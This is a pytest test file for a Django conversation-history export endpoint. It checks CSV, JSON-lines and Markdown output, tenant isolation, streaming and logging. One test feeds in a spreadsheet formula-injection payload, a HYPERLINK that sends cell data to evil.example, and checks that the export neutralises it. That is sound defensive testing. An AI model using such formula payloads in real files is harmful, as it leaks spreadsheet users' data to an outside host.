"""What is filtered on /cache, as a file: complete, streamed, and nobody else's."""

import csv
import gc
import io
import json
import re
import tracemalloc
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from history.models import Conversation, Message
from history.pages.exports import rows
from history.search import lookup
from tenants.models import ApiKey, System
from tests.control_room import operator, superuser
from tests.ledger import NOON, asked, talked

FORMATS = ["csv", "jsonl", "md"]


def exported(browser: Client, ending: str, **query: str) -> str:
    answer: Any = browser.get(f"/cache/export.{ending}", query)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()


def csv_rows(browser: Client, **query: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(browser, "csv", **query).removeprefix("\ufeff"), newline="")))


def json_rows(browser: Client, **query: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in exported(browser, "jsonl", **query).splitlines()]


@pytest.fixture
def said(drillquiz: System, cointutor: System) -> None:
    drillquiz.time_zone = "Asia/Seoul"
    drillquiz.save()
    details = {
        "feedback": "like",
        "tokens": 42,
        "price": "0.0012",
        "currency": "USD",
        "model": "gpt-4o",
        "latency_ms": 1500,
        "citations": [{"document_name": "Handbook.pdf", "score": 0.8, "content": "Page one."}],
        "files": [{"type": "image", "name": "screen.png"}],
    }
    talked(
        drillquiz,
        "alice",
        {"query": 'Wie, "geht\'s"?\nNeue Zeile', "answer": "# 답\n\n- eins", **details},
        {"query": "And the refund?", "status": "failed", "error_code": "upstream_timeout", "answer": ""},
        name="Erste\nFrage",
        deleted_at=NOON + timedelta(hours=1),
    )
    talked(cointutor, "charlie", {"query": "Buy?"}, name="Coins")


# What is in it ---------------------------------------------------------------------------------------------------


def test_json_lines_have_everything_as_it_was_said(said: None) -> None:
    first, second, third = json_rows(superuser().client)

    conversation = Conversation.objects.get(user_id="alice")
    turn = Message.objects.get(feedback="like")
    assert first == {
        "system_id": "drillquiz",
        "user_id": "alice",
        "conversation_id": conversation.conversation_id,
        "conversation_name": "Erste\nFrage",
        "conversation_deleted_at": "2026-03-10T22:00:00+09:00",
        "message_id": turn.message_id,
        "created_at": "2026-03-10T21:00:00+09:00",
        "status": "answered",
        "error_code": None,
        "query": 'Wie, "geht\'s"?\nNeue Zeile',
        "answer": "# 답\n\n- eins",
        "feedback": "like",
        "citations": turn.citations,
        "files": turn.files,
        "latency_ms": 1500,
        "tokens": 42,
        "price": "0.0012000",
        "currency": "USD",
        "model": "gpt-4o",
    }
    assert (second["status"], second["error_code"], second["feedback"]) == ("failed", "upstream_timeout", None)
    assert (third["user_id"], third["created_at"]) == ("charlie", "2026-03-10T12:00:00+00:00")


def test_csv_opens_in_excel_with_every_cell_in_its_column(said: None) -> None:
    text = exported(superuser().client, "csv")
    assert text.startswith("\ufeffsystem_id,user_id,")
    assert "\r\n" in text

    first, second, _ = csv_rows(superuser_again())

    assert (first["query"], first["answer"]) == ('Wie, "geht\'s"?\nNeue Zeile', "# 답\n\n- eins")
    assert (first["sources"], first["files"]) == ("Handbook.pdf", "screen.png")
    assert (first["created_at"], first["latency_ms"], first["tokens"]) == ("2026-03-10T21:00:00+09:00", "1500", "42")
    assert (second["status"], second["error_code"], second["feedback"]) == ("failed", "upstream_timeout", "")


def superuser_again() -> Client:
    browser = Client()
    browser.force_login(User.objects.get(username="superuser"))
    return browser


def test_markdown_reads_as_a_conversation(said: None) -> None:
    text = exported(superuser().client, "md")

    conversation = Conversation.objects.get(user_id="alice")
    assert text.startswith("# History: all until-")
    assert f"## Erste Frage\n\nalice, Drillquiz, `{conversation.conversation_id}`, deleted 2026-03-10 22:00\n" in text
    assert '### 2026-03-10 21:00:00 alice\n\n> Wie, "geht\'s"?\n> Neue Zeile\n\n# 답\n\n- eins\n\n' in text
    assert "*(liked, files: screen.png, sources: Handbook.pdf)*" in text
    assert "> And the refund?\n\n*(failed upstream_timeout)*\n" in text
    assert text.count("\n## ") == 2


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "－"])
def test_a_spreadsheet_finds_no_formula(drillquiz: System, begin: str) -> None:
    formula = begin + 'HYPERLINK("https://evil.example/?"&A1,"x")'
    turn = {
        "query": formula,
        "answer": formula,
        "citations": [{"document_name": formula}],
        "files": [{"name": formula}],
    }
    talked(drillquiz, formula.strip(), turn, name=formula)

    [row] = csv_rows(superuser().client)

    assert not [
        name for name, cell in row.items() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "－"))
    ]
    assert row["query"] == f"'{formula}"
    assert json_rows(superuser_again())[0]["query"] == formula


def test_what_never_reached_a_conversation_is_there_too(drillquiz: System) -> None:
    talked(drillquiz, "alice", {})
    asked(drillquiz, "alice", query="Is anybody there?", status="failed")
    browser = superuser().client

    assert [row["conversation_id"] is None for row in json_rows(browser)] == [False, True]
    assert "## Never reached a conversation\n\n### 2026-03-10 12:00:00 alice\n\n> Is anybody there?" in exported(
        browser, "md"
    )
    assert csv_rows(browser)[1]["conversation_id"] == ""


def test_an_empty_export_is_a_file_nevertheless(drillquiz: System) -> None:
    browser = superuser().client

    assert csv_rows(browser) == []
    assert json_rows(browser) == []
    assert exported(browser, "md").startswith("# History")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"system_id": "cointutor"}, ["Buy?"]),
        ({"user_id": "alice", "status": "failed"}, ["And the refund?"]),
        ({"q": "refund"}, ["And the refund?"]),
        ({"feedback": "none"}, ["And the refund?", "Buy?"]),
        ({"from_date": "2026-03-11"}, []),
        ({"to_date": "2026-03-10", "q": "buy"}, ["Buy?"]),
    ],
)
def test_it_has_the_turns_that_match(said: None, query: dict[str, str], expected: list[str]) -> None:
    browser = superuser().client

    assert [row["query"] for row in json_rows(browser, **query)] == expected
    assert [row["query"] for row in csv_rows(browser, **query)] == expected
    assert re.findall(r"^> (.*)$", exported(browser, "md", **query), re.MULTILINE) == expected


@pytest.fixture
def small_batches(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rows, "FIRST_BATCH", 2)
    monkeypatch.setattr(rows, "SMALLEST", 2)
    monkeypatch.setattr(rows, "BATCH_CHARACTERS", 1)


@pytest.mark.parametrize("ending", FORMATS)
def test_batches_lose_and_repeat_nothing(
    drillquiz: System, cointutor: System, small_batches: None, ending: str
) -> None:
    for system, number in ((drillquiz, 1), (cointutor, 5), (drillquiz, 4), (drillquiz, 0), (drillquiz, 2)):
        # All at the same moment: the order is settled by more than the time.
        for turn in Message.objects.filter(conversation=talked(system, "alice", *([{}] * number))):
            Message.objects.filter(pk=turn.pk).update(created_at=NOON, query=f"<{turn.pk}>")
    for _ in range(5):
        turn = asked(drillquiz, "alice")
        Message.objects.filter(pk=turn.pk).update(query=f"<{turn.pk}>")

    text = exported(superuser().client, ending)

    asked_ids = re.findall(r"<(\d+)>", text)
    assert sorted(map(int, asked_ids)) == sorted(Message.objects.values_list("pk", flat=True))
    assert text.count("\n## ") == (5 if ending == "md" else 0)


@pytest.mark.parametrize("few", [5, 6], ids=["common", "rare"])
def test_words_are_found_in_every_batch_and_looked_up_once(
    drillquiz: System, small_batches: None, monkeypatch: pytest.MonkeyPatch, few: int
) -> None:
    monkeypatch.setattr(lookup, "FEW", few)
    for number in range(3):
        talked(drillquiz, "alice", *({"query": query} for query in (f"<{number}a> 장부", "Other", f"<{number}b> 장부")))
    browser = superuser().client

    with CaptureQueriesContext(connection) as captured:
        text = exported(browser, "jsonl", q="장부")

    assert re.findall(r"<(..)>", text) == ["0a", "0b", "1a", "1b", "2a", "2b"]
    index = "history_short_words" if connection.vendor == "postgresql" else "history_search"
    assert sum(index in query["sql"] for query in captured) == 1


# Whose it is -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", FORMATS)
def test_an_operator_takes_away_their_own_only(drillquiz: System, cointutor: System, said: None, ending: str) -> None:
    asked(cointutor, "charlie", query="Buy nowhere?")

    text = exported(operator(drillquiz).client, ending)

    assert "refund" in text
    assert "charlie" not in text
    assert "Buy" not in text


def test_a_key_takes_away_its_own_only(drillquiz: System, said: None) -> None:
    browser, text = Client(), ApiKey.issue(drillquiz)[1]

    answer = browser.get("/cache/export.jsonl", {"api_key": text, "user_id": ""})

    assert answer["Location"] == "/cache/export.jsonl?user_id="
    assert {row["system_id"] for row in json_rows(browser)} == {"drillquiz"}


@pytest.mark.parametrize("ending", FORMATS)
def test_nobody_else_gets_a_file(drillquiz: System, ending: str) -> None:
    assert Client().get(f"/cache/export.{ending}")["Location"].startswith("/admin/login/")
    assert operator().client.get(f"/cache/export.{ending}").status_code == 403


@pytest.mark.parametrize("query", [{"from_date": "2026-02-30"}, {"system_id": "cointutor"}, {"q": "x" * 10_000}])
def test_a_filter_that_cannot_be_read_gives_no_file(drillquiz: System, cointutor: System, query: Any) -> None:
    answer = operator(drillquiz).client.get("/cache/export.csv", query)

    assert answer.status_code == 400
    assert "Content-Disposition" not in answer
    assert 'class="problem"' in answer.content.decode()


def test_there_are_three_formats() -> None:
    assert Client().get("/cache/export.xlsx").status_code == 404


# The file --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ({}, "history-all-until-{today}.csv"),
        ({"system_id": "drillquiz"}, "history-drillquiz-until-{today}.csv"),
        ({"from_date": "2026-03-01"}, "history-all-from-2026-03-01-until-{today}.csv"),
        ({"from_date": "2026-03-01", "to_date": "2026-03-31"}, "history-all-from-2026-03-01-until-2026-03-31.csv"),
    ],
)
def test_its_name_says_which_system_and_which_period(said: None, query: dict[str, str], name: str) -> None:
    answer = superuser().client.get("/cache/export.csv", query)

    expected = name.format(today=timezone.localdate())
    assert answer["Content-Disposition"] == f'attachment; filename="{expected}"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Cache-Control"] == "no-store"
    assert answer["X-Accel-Buffering"] == "no"


def test_the_name_of_a_single_system_is_said_unasked(drillquiz: System, cointutor: System) -> None:
    answer = operator(drillquiz).client.get("/cache/export.md")

    assert "history-drillquiz-until-" in answer["Content-Disposition"]


def test_head_asks_without_reading(said: None) -> None:
    answer = superuser().client.head("/cache/export.csv")

    assert answer.status_code == 200
    assert not answer.streaming
    assert "attachment" in answer["Content-Disposition"]


def test_the_page_offers_it_with_its_filters(said: None) -> None:
    html = superuser().client.get("/cache", {"q": "refund", "user_id": "alice"}).content.decode()

    for ending in FORMATS:
        assert re.search(rf'href="/cache/export\.{ending}\?user_id=alice&amp;q=refund" download', html)


# Streaming -------------------------------------------------------------------------------------------------------


def long_talk(system: System, turns: int, characters: int) -> None:
    conversation = talked(system, "alice")
    fields = {"system": system, "user_id": "alice", "conversation": conversation, "status": "answered"}
    Message.objects.bulk_create(
        Message(**fields, message_id=f"m{n}", query="Hello", answer="x" * characters, created_at=NOON)
        for n in range(turns)
    )


def chunks(ending: str) -> tuple[Any, Iterator[bytes]]:
    answer: Any = superuser().client.get(f"/cache/export.{ending}")
    return answer, iter(answer.streaming_content)


def test_the_first_bytes_come_before_the_database_is_asked(drillquiz: System, django_assert_num_queries: Any) -> None:
    long_talk(drillquiz, 10, 10)
    _, stream = chunks("csv")

    with django_assert_num_queries(0):
        assert next(stream).startswith("\ufeff".encode())


@pytest.mark.parametrize("ending", FORMATS)
def test_no_connection_is_held_while_the_client_takes_its_time(drillquiz: System, ending: str) -> None:
    long_talk(drillquiz, 200, 1000)
    _, stream = chunks(ending)

    next(stream)
    held = []
    for _ in stream:
        held.append(connection.connection is not None)

    assert len(held) > 1
    assert not any(held)


def test_an_export_that_is_stopped_halfway_ends_there(drillquiz: System, log: io.StringIO) -> None:
    long_talk(drillquiz, 200, 1000)
    answer, stream = chunks("jsonl")
    next(stream)
    next(stream)

    answer.close()

    assert connection.connection is None
    assert re.search(r"Export stopped after 50 turns: jsonl by superuser, systems: all, filters: none", log.getvalue())
    with pytest.raises(StopIteration):
        next(stream)


def test_every_export_is_logged_with_who_and_what_but_no_words(drillquiz: System, said: None, log: io.StringIO) -> None:
    exported(operator(drillquiz).client, "csv", q="refund", user_id="alice", from_date="2026-01-01")

    lines = [line for line in log.getvalue().splitlines() if "history.pages.exports" in line]
    what = "csv by operator, systems: drillquiz, filters: q,user_id,from_date"
    assert [line.split(": ", 1)[1] for line in lines] == [
        f"Export begun: {what}",
        f"Export complete after 1 turns: {what}",
    ]


@pytest.mark.parametrize("ending", FORMATS)
def test_memory_does_not_grow_with_the_export(drillquiz: System, ending: str) -> None:
    """Six times as many turns, and the highest point of memory stays where it was."""
    long_talk(drillquiz, 500, 4000)
    few = peak(ending)
    Message.objects.all().delete()
    long_talk(drillquiz, 3000, 4000)

    assert peak(ending) < few * 1.5


def peak(ending: str) -> int:
    browser = Client()
    browser.force_login(User.objects.get_or_create(username="superuser", is_staff=True, is_superuser=True)[0])
    gc.collect()
    tracemalloc.start()
    answer: Any = browser.get(f"/cache/export.{ending}")
    total = sum(len(chunk) for chunk in answer.streaming_content)
    highest = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert total > Message.objects.count() * 4000
    return highest


def test_long_answers_come_in_small_batches(drillquiz: System) -> None:
    long_talk(drillquiz, 80, 60_000)
    _, stream = chunks("jsonl")
    next(stream)

    sizes = [len(chunk) for chunk in stream]

    assert sizes[0] > 50 * 60_000  # nobody knows beforehand
    assert max(sizes[1:]) < 1_100_000
